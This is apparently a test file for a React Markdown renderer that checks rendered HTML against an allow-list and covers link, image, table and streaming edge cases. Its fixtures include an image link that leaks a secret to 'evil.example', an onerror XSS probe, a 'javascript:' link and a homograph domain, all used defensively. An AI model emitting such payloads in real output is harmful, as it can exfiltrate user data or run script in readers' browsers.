import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import ts from 'typescript';
import { HOSTILE } from './hostile-markdown.testing.ts';
import { Markdown } from './markdown.tsx';

const render = (text: string, isStreaming = false): string =>
  renderToStaticMarkup(createElement(Markdown, { text, isStreaming }));

interface Parsed {
  name: string;
  attributes: Record<string, string>;
}

/**
 * Returns the elements of HTML that React wrote. React closes all elements, so the HTML is JSX once its braces are escaped. A JSX
 * parser is strict: it reports everything that a browser would have to repair.
 */
function elementsOf(html: string): Parsed[] {
  const jsx = `<>${html.replaceAll('{', '&#123;').replaceAll('}', '&#125;')}</>`;
  const file = ts.createSourceFile('output.tsx', jsx, ts.ScriptTarget.Latest, true, ts.ScriptKind.TSX);
  expect((file as unknown as { parseDiagnostics: unknown[] }).parseDiagnostics).toEqual([]);
  const found: Parsed[] = [];
  const pending: ts.Node[] = [file];
  for (let node = pending.pop(); node; node = pending.pop()) {
    if (ts.isJsxOpeningElement(node) || ts.isJsxSelfClosingElement(node)) {
      const attributes = node.attributes.properties.map((attribute) => {
        if (!ts.isJsxAttribute(attribute) || !attribute.initializer)
          throw new Error(`Not an attribute that React writes: ${attribute.getText()}`);
        return [attribute.name.getText(), attribute.initializer.getText().slice(1, -1)] as const;
      });
      found.push({ name: node.tagName.getText(), attributes: Object.fromEntries(attributes) });
    }
    ts.forEachChild(node, (child) => void pending.push(child));
  }
  return found;
}

/** The attributes that each element may have. Other elements may not appear. */
const ALLOWED: Record<string, string[]> = {
  ...Object.fromEntries(
    'bdi blockquote br code del em hr li p section strong sup table tbody thead tr ul'
      .split(' ')
      .map((name) => [name, []]),
  ),
  a: ['href', 'target', 'rel'],
  bdi: ['class'],
  button: ['type', 'class', 'aria-label'],
  div: ['class', 'role', 'aria-label', 'tabindex'],
  h3: ['data-depth'],
  h4: ['data-depth'],
  h5: ['data-depth'],
  h6: ['data-depth'],
  input: ['type', 'disabled', 'checked', 'aria-label'],
  ol: ['start'],
  pre: ['tabindex', 'role', 'aria-label'],
  span: ['class'],
  td: ['data-align'],
  th: ['data-align'],
};

function expectSafe(html: string): void {
  const elements = elementsOf(html);
  const forbidden = elements.flatMap(({ name, attributes }) => {
    const allowed = Object.hasOwn(ALLOWED, name) ? ALLOWED[name]! : undefined;
    return allowed ? Object.keys(attributes).filter((attribute) => !allowed.includes(attribute)) : [`<${name}>`];
  });
  expect(forbidden).toEqual([]);
  for (const { attributes } of elements.filter(({ name }) => name === 'a')) {
    expect(attributes).toMatchObject({ target: '_blank', rel: 'noopener noreferrer' });
    expect(attributes.href).toMatch(/^(https?:\/\/[^@/]+\/|mailto:[\w.+-]+@[\w.-]+$)/);
  }
}

describe.each([true, false])('while streaming: %s', (isStreaming) => {
  test.each(HOSTILE)('renders safely: $name', ({ text }) => expectSafe(render(text, isStreaming)));
});

const content = (text: string): string => render(text).replace(/^<div class="markdown">|<\/div>$/g, '');
const link = (href: string, text: string, target = ''): string =>
  `<p><a href="${href}" target="_blank" rel="noopener noreferrer"><bdi>${text}</bdi></a>${target && `<bdi class="target"> (${target})</bdi>`}</p>`;

test.each([
  ['a link shows its host', '[docs](https://example.com/a)', link('https://example.com/a', 'docs', 'example.com')],
  [
    'a link whose text is its address shows no host',
    'https://example.com/a',
    link('https://example.com/a', 'https://example.com/a'),
  ],
  ['a host as text is an address', 'www.example.com', link('http://www.example.com/', 'www.example.com')],
  ['a host shows its port', '[x](http://example.com:81)', link('http://example.com:81/', 'x', 'example.com:81')],
  [
    'a homograph shows its ASCII host',
    '[аpple.com](https://аpple.com)',
    link('https://xn--pple-43d.com/', 'аpple.com', 'xn--pple-43d.com'),
  ],
  [
    'another address as text shows the host',
    '[https://a.example](https://b.example)',
    link('https://b.example/', 'https://a.example', 'b.example'),
  ],
  ['a link without text shows its host', '[](https://example.com)', link('https://example.com/', 'example.com')],
  [
    'a mail link loses its query',
    '[x](mailto:a@b.example?bcc=c@d.example)',
    link('mailto:a@b.example', 'x', 'a@b.example'),
  ],
  ['credentials make no link', '[x](https://a:b@example.com)', '<p>x</p>'],
  ['other schemes and relative addresses make no link', '[x](javascript:a) [y](/a) [z](//a.example)', '<p>x y z</p>'],
  [
    'characters that change the direction of text are removed',
    '[\u202Ea](https://example.com) &#x2067;b',
    link('https://example.com/', 'a', 'example.com').replace('</p>', ' b</p>'),
  ],
  [
    'an image becomes a note',
    '![cat](https://example.com/c.png)',
    '<p><span class="image">cat (Image not loaded: example.com)</span></p>',
  ],
  [
    'an image without a host becomes a note',
    '![](data:image/png,x)',
    '<p><span class="image">Image not loaded</span></p>',
  ],
  ['HTML appears as text', 'a <b>c</b>', '<p>a &lt;b&gt;c&lt;/b&gt;</p>'],
  ['Markdown between HTML tags is rendered', '<p>\n*a*', '<p>&lt;p&gt;\n<em>a</em></p>'],
  ['a long address makes no link', `[x](https://example.com/${'a'.repeat(2_000)})`, '<p>x</p>'],
  [
    'a table with too many cells appears as plain text',
    `|a${'|b'.repeat(99)}\n${'|-'.repeat(100)}\n${'|c\n'.repeat(500)}`,
    `<div class="plain">|a${'|b'.repeat(99)}\n${'|-'.repeat(100)}\n${'|c\n'.repeat(500)}</div>`,
  ],
  [
    'headings start at the third level and skip no level',
    '## a\n\n##### b\n\n# c',
    '<h3 data-depth="2">a</h3>\n<h4 data-depth="5">b</h4>\n<h3 data-depth="1">c</h3>',
  ],
  [
    'footnotes have no ids and no links',
    'a[^1]\n\n[^1]: b',
    '<p>a<sup>1</sup></p>\n<section><h3 data-depth="2">Footnotes</h3>\n<ol>\n<li>\n<p>b </p>\n</li>\n</ol>\n</section>',
  ],
  [
    'tasks have a label',
    '- [x] a',
    '<ul>\n<li><input type="checkbox" disabled="" aria-label="Done" checked=""/> a</li>\n</ul>',
  ],
  [
    'a table is in a box that scrolls',
    '| a |\n|--:|',
    '<div class="scroll" role="group" aria-label="Table" tabindex="0"><table><thead><tr><th data-align="right">a</th></tr></thead></table></div>',
  ],
  [
    'code shows its language and a copy button',
    '```js\na\n```',
    '<div class="code"><div class="bar"><span class="language">js</span><button type="button" aria-label="Copy code">Copy</button></div>' +
      '<pre tabindex="0" role="group" aria-label="Code in js"><code>a</code></pre></div>',
  ],
  [
    'references across blocks work',
    '[x][r]\n\ny\n\n[r]: https://example.com',
    `${link('https://example.com/', 'x', 'example.com')}\n<p>y</p>`,
  ],
  [
    'text with too many nested quotes appears as plain text',
    `${'>'.repeat(33)}*x*`,
    `<div class="plain">${'&gt;'.repeat(33)}*x*</div>`,
  ],
])('%s', (_, text, html) => {
  expect(content(text)).toBe(html);
});

const SAMPLE = `# Answer

Some **bold *and* italic** with \`code\`, ~~old~~ and [a link](https://good.example/a?b=c "title").

![chart](https://evil.example/leak?secret=1) and [![logo](https://evil.example/i)](https://good.example)

1. one
   \`\`\`js
   const a = [1];

   run(a);
   \`\`\`

2. two[^1]

| a | b |
|---|--:|
| ![x](https://evil.example/t) | https://good.example |

- [x] done
- [ ] open <img src="https://good.example" onerror="alert(1)">

> [reference][r]

[^1]: A note.

[r]: https://good.example/r
`;

test('renders each prefix of a stream safely, and never links to an incomplete address', () => {
  const targets = ['https://good.example/a?b=c', 'https://good.example/'];
  for (let length = 0; length <= SAMPLE.length; length++) {
    const html = render(SAMPLE.slice(0, length), true);
    expectSafe(html);
    const links = elementsOf(html).flatMap(({ attributes }) => attributes.href ?? []);
    // Bare addresses are links before they are complete.
    expect(links.filter((href) => !targets.includes(href) && !/^https?:\/\/g[a-z.]*\/$/.test(href))).toEqual([]);
  }
});
